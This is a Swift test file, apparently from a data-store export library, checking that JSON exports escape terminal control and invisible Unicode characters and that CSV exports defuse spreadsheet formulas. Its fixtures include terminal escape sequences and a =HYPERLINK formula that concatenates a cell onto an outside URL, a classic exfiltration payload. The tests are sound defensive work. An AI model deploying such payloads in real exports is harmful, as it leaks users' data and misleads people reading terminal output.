import Foundation
import ObjectGraph
import SealedStore
import TestSupport
import Testing

@testable import SealedTransfer

/// JSON of which a terminal shows each character.
@Suite struct VisibleTextTests {
    private let folder = TemporaryFolder()

    /// Characters that a terminal acts on, or does not show.
    private static let hidden =
        "\u{1B}[2J\u{7F}\u{9B}31m\u{61C}\u{200B}\u{200E}\u{202E}\u{2028}\u{2066}\u{FEFF}\u{E0041}"

    private func model() throws -> ManagedObjectModel {
        try ManagedObjectModel(entities: [
            EntityDescription(
                "Name" + Self.hidden,
                attributes: [
                    .init("text" + Self.hidden, .string), .init("part", .composite, isOptional: true),
                    .init("link", .url, isOptional: true),
                ]
            )
        ])
    }

    @Test func `each text is written in visible characters, and read again`() throws {
        for text in [
            "", "ä€😀/\"\\", "a\u{1}\u{8}\u{C}\t\r\n\u{1F}", Self.hidden, "e\u{301}", "\u{D7FF}\u{E000}\u{10FFFF}",
        ] {
            let json = JSONString.quoted(text)
            #expect(JSONString.isVisible(json), "\(json)")
            let read = try JSONDecoder().decode(String.self, from: Data(json.utf8))
            #expect(read.unicodeScalars.elementsEqual(text.unicodeScalars))
            #expect(JSONSlice(validating: json)?.string?.unicodeScalars.elementsEqual(text.unicodeScalars) == true)
        }
        #expect(JSONString.quoted("\u{9B}\u{E0041}ä") == #""\u009b\udb40\udc41ä""#)
        #expect(JSONString.visible("{\n  \"a\u{9B}\": \"\u{202E}\"\n}") == "{\n  \"a\\u009b\": \"\\u202e\"\n}")
    }

    @Test func `an export shows each character, and an import restores names and values exactly`() throws {
        let store = try TestStore(folder.file("store"), model())
        let entity = store.context.model.entities[0].name
        for (text, part) in [
            (Self.hidden, "{\"a\": \"\(Self.hidden.replacing("\u{1B}", with: ""))\"}"), ("plain", "{\"a\": [1, null]}"),
            ("", "\"\u{9B}\""),
        ] {
            store.insert(entity, ["text" + Self.hidden: .text(text), "part": .text(part)])
        }
        try store.context.save()
        let file = folder.file("objects.jsonl")
        let export = StoreExport(from: folder.file("store"), key: Harbour.key)
        try export.exportJSONLines(to: file)
        try export.exportModel(to: folder.file("model.json"))
        for name in ["objects.jsonl", "model.json"] {
            for line in try String(contentsOf: folder.file(name), encoding: .utf8).split(separator: "\n") {
                #expect(JSONString.isVisible(String(line)), "\(name)")
                if name == "objects.jsonl" {
                    #expect(throws: Never.self) { try JSONSerialization.jsonObject(with: Data(line.utf8)) }
                }
            }
        }
        let written = try String(contentsOf: file, encoding: .utf8)
        #expect(written.contains(#""part":{"a": [1, null]}"#), "other programs read its parts")
        let copy = try JSONDecoder().decode(
            ManagedObjectModel.self,
            from: Data(contentsOf: folder.file("model.json"))
        )
        try StoreImport(into: folder.file("copy"), key: Harbour.key, model: copy).importJSONLines(from: file)
        try expectEqual(store, TestStore(folder.file("copy")))
    }

    // MARK: Spreadsheets

    @Test(arguments: [
        ("=1+1", "'=1+1"), ("+1", "'+1"), ("-1", "'-1"), ("@SUM(A1)", "'@SUM(A1)"), ("\t=1", "'\t'=1"),
        ("\r=1", "'\r'=1"), ("a\n=1", "a\n'=1"), ("x;=1;y", "x;'=1;y"), ("x;\"=1\"", "x;\"'=1\""),
        ("\"=1\"", "\"'=1\""),
        (" =1", " '=1"), ("\u{FF1D}1", "'\u{FF1D}1"), ("a=1, -2", "a=1, -2"), ("'=1", "'=1"), ("", ""),
    ])
    func `an apostrophe stands before each place where a formula would begin`(text: String, inert: String) {
        #expect(SpreadsheetText.inert(text) == inert)
    }

    @Test func `an export that is safe for spreadsheets has no formula, and numbers as they are`() throws {
        let model = try ManagedObjectModel(entities: [
            EntityDescription(
                "Row",
                attributes: [
                    .init("=name", .string), .init("number", .int64), .init("real", .double), .init("data", .data),
                    .init("part", .composite), .init("sum", .decimal),
                ]
            )
        ])
        let store = try TestStore(folder.file("store"), model)
        store.insert(
            "Row",
            [
                "=name": .text("=HYPERLINK(\"http://example.org/\"&A1)"), "number": .integer(-5),
                "real": .real(-.infinity),
                "data": .blob(Data([0xFB, 0xFB, 0xFB])), "part": .text("\"=1\""), "sum": Decimal(-1.5).storedValue,
            ]
        )
        try store.context.save()
        let export = StoreExport(from: folder.file("store"), key: Harbour.key)
        try export.exportCSV(to: folder.file("safe"), isSafeForSpreadsheets: true)
        let safe = try String(contentsOf: folder.file("safe/Row.csv"), encoding: .utf8)
        #expect(
            safe == """
                _id,'=name,number,real,data,part,sum\r
                1,"'=HYPERLINK(""http://example.org/""&A1)",-5,'-inf,'+/v7,\"\"\"'=1\"\"\",-1.5\r

                """
        )
        try export.exportCSV(to: folder.file("exact"))
        try StoreImport(into: folder.file("copy"), key: Harbour.key, model: model).importCSV(from: folder.file("exact"))
        try expectEqual(store, TestStore(folder.file("copy")))
        #expect(throws: TransferError.self, "the columns have other names") {
            try StoreImport(into: folder.file("other"), key: Harbour.key, model: model)
                .importCSV(from: folder.file("safe"))
        }
    }
}
